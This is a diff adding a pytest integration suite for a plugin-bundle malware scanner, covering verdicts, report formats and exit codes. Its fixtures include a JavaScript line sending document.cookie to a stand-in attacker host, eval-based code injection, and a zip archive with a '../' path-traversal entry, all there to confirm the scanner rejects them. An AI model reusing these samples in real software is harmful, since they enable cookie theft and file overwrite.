@@ -1,0 +1,183 @@
+"""`gatehouse scan` end to end: real clamd, real stages, report formats, exit codes."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from scanner.cli import main
+from scanner.config import Settings
+from tests.conftest import BundleMaker, manifest
+
+pytestmark = pytest.mark.integration
+
+
+@pytest.fixture
+def env(
+    clamd_settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> dict[str, str]:
+    values = {
+        "GATEHOUSE_DATA_DIR": str(clamd_settings.data_dir),
+        "GATEHOUSE_WORK_ROOT": str(tmp_path / "work"),
+        "GATEHOUSE_OFFICIAL_CLAMAV_DB": str(clamd_settings.official_clamav_db),
+    }
+    for key, value in values.items():
+        monkeypatch.setenv(key, value)
+    return values
+
+
+def _scan(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    code = main(["scan", *argv])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def test_clean_bundle_passes_with_every_stage_ok(
+    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = _scan(capsys, str(make_bundle()), "--format", "json")
+    report = json.loads(out)
+    assert code == 0
+    assert report["verdict"] == "pass"
+    assert {s["name"]: s["status"] for s in report["stages"]} == {
+        "archive": "ok",
+        "manifest": "ok",
+        "js-static": "ok",
+        "python-static": "ok",
+        "secrets": "ok",
+        "directives": "ok",
+        "yara": "ok",
+        "antivirus": "ok",
+    }
+    assert report["bundle"]["name"] == "test-plugin" and len(report["bundle"]["sha256"]) == 64
+    assert report["ruleset"].startswith("sha256:")
+    assert {"clamav", "yara", "bandit", "tree-sitter"} <= set(report["tool_versions"])
+    assert "dist/bundle.js" in report["coverage"]["antivirus"]["scanned"]
+
+
+def test_malicious_bundle_is_rejected_with_reasons(
+    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
+) -> None:
+    js = "var TestPlugin={mount:function(c){fetch('https://x.evil.example/?c='+document.cookie);}};"
+    code, out, _ = _scan(
+        capsys, str(make_bundle({"dist/bundle.js": js})), "--format", "json", "--fail-on", "reject"
+    )
+    report = json.loads(out)
+    assert code == 1
+    assert report["verdict"] == "reject"
+    assert {"exfiltration", "credential-access"} <= {f["category"] for f in report["findings"]}
+    assert report["reasons"][0]["action"] == "reject"
+    assert report["risk_score"] > 0
+
+
+def test_fail_on_review_and_exit_codes(
+    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
+) -> None:
+    js = "var TestPlugin={mount:function(c){var f=new Function(c.dataset.code);}};"
+    bundle = str(make_bundle({"dist/bundle.js": js}))
+    assert _scan(capsys, bundle, "--format", "json", "--fail-on", "reject")[0] == 0
+    assert _scan(capsys, bundle, "--format", "json", "--fail-on", "review")[0] == 1
+    assert _scan(capsys, bundle, "--format", "json")[0] == 0
+
+
+def test_sarif_output_file_for_github(
+    env: dict[str, str],
+    make_bundle: BundleMaker,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    js = "var TestPlugin={mount:function(c){eval(c.dataset.code);eval(c.title);}};"
+    out_file = tmp_path / "reports" / "scan.sarif"
+    code, out, err = _scan(
+        capsys,
+        str(make_bundle({"dist/bundle.js": js})),
+        "--format",
+        "sarif",
+        "--output",
+        str(out_file),
+    )
+    assert code == 0 and out == "" and "review" in err
+    sarif = json.loads(out_file.read_text())
+    assert sarif["version"] == "2.1.0"
+    run = sarif["runs"][0]
+    rule = run["tool"]["driver"]["rules"][0]
+    assert {"id", "shortDescription", "fullDescription", "help"} <= set(rule)
+    assert float(rule["properties"]["security-severity"]) > 0
+    results = run["results"]
+    assert len(results) == 2
+    hashes = [r["partialFingerprints"]["primaryLocationLineHash"] for r in results]
+    assert len(set(hashes)) == 2
+    assert (
+        results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+        == "dist/bundle.js"
+    )
+
+
+def test_text_format_for_people(
+    env: dict[str, str], make_bundle: BundleMaker, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = _scan(
+        capsys, str(make_bundle(plugin=manifest(name="Bad Name"))), "--format", "text"
+    )
+    assert code == 0
+    assert "verdict: REJECT" in out and "name:" in out
+
+
+def test_clamd_down_fails_closed(
+    env: dict[str, str],
+    make_bundle: BundleMaker,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.setenv("GATEHOUSE_CLAMD_SOCKET", str(tmp_path / "nothing.sock"))
+    code, out, _ = _scan(capsys, str(make_bundle()), "--format", "json")
+    report = json.loads(out)
+    assert code == 0
+    assert report["verdict"] == "review"
+    antivirus = next(s for s in report["stages"] if s["name"] == "antivirus")
+    assert antivirus["status"] == "error" and "not reachable" in antivirus["error"]
+
+
+def test_missing_bundle_exits_2_with_a_message(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["scan", "/no/such/bundle.zip"]) == 2
+    err = capsys.readouterr().err
+    assert "no such file" in err and "Traceback" not in err
+
+
+@pytest.mark.parametrize("argv", [["scan"], ["frobnicate"], ["scan", "x.zip", "--format", "pdf"]])
+def test_bad_command_lines_exit_2(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as exc:
+        main(argv)
+    assert exc.value.code == 2
+    assert "Traceback" not in capsys.readouterr().err
+
+
+def test_console_script_on_hostile_archives(env: dict[str, str], tmp_path: Path) -> None:
+    """Through the installed entry point: JSON on stdout, no traceback, nothing escapes."""
+    escape = tmp_path / "escaped.txt"
+    bundle = tmp_path / "slip.zip"
+    with zipfile.ZipFile(bundle, "w") as zf:
+        zf.writestr("plugin.json", json.dumps(manifest()))
+        zf.writestr("../escaped.txt", "pwned")
+    script = Path(sys.executable).parent / "gatehouse"
+    proc = subprocess.run(
+        [str(script), "scan", str(bundle), "--format", "json"],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **env},
+        timeout=120,
+        check=False,
+    )
+    assert proc.returncode == 0, proc.stderr
+    report = json.loads(proc.stdout)
+    assert report["verdict"] == "reject"
+    assert report["findings"][0]["rule_id"] == "archive-path-traversal"
+    assert "Traceback" not in proc.stderr
+    assert not escape.exists()
